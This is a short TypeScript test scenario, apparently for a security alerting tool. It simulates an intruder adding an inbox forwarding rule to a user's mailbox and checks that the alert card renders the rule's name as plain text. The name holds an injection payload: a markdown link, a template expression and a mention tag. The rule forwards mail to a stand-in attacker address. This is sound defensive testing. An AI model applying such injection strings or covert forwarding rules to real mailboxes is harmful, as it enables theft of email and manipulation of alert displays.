/** The rule's name tries to become a link, an expression and a mention. It must stay what it is: text. */
import { runAs } from "./run-as.ts"
import { INTRUDER_ADDRESS, type Story } from "./story.ts"

const adele = { tenant: "contoso", alias: "adele.varga", ip: INTRUDER_ADDRESS } as const

export const HOSTILE_NAME = "[click](https://evil.example) $" + "{1+1} <at>all</at>"

export const hostileText: Story = {
  id: "07-hostile-text",
  title: "Rule with a hostile name",
  description:
    "The name of the rule holds a link, an expression and a mention. The card must show it as plain text.",
  steps: [
    {
      says: "Adele's mailbox gets a forwarding rule with a hostile name",
      act: (cloud) =>
        runAs(cloud, adele, "New-InboxRule", {
          Name: HOSTILE_NAME,
          ForwardTo: ["collector@evil.example"],
          StopProcessingRules: true,
        }),
    },
  ],
}
